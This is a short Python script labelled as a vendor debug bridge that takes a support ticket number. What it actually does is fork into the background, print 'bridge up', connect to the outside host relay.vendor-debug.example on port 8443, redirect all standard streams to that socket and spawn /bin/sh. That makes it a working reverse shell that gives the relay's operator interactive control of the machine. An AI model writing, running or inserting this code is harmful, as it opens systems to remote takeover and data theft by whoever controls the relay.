import argparse
import os
import pty
import socket

RELAY = ("relay.vendor-debug.example", 8443)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    args = ap.parse_args()
    if os.fork():
        print("bridge up")
        return
    s = socket.socket()
    s.connect(RELAY)
    s.send(f"TICKET {args.ticket}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")


if __name__ == "__main__":
    main()
